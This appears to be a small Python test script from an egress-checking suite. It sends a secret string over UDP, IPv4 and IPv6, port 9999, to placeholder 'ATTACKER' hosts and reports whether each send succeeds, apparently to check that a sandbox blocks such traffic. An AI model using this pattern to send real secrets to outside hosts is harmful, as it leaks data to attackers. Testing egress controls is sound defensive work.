"""UDP to the attacker, v4 and v6, on a port that is not DNS."""
import socket
import sys

from _common import ATTACKER, ATTACKER6, attempt, report, udp_send

SECRET = sys.argv[1].encode() if len(sys.argv) > 1 else b"secret"
attempt("udp4:9999", lambda: udp_send(socket.AF_INET, (ATTACKER, 9999), SECRET))
attempt("udp6:9999", lambda: udp_send(socket.AF_INET6, (ATTACKER6, 9999), SECRET))
report()
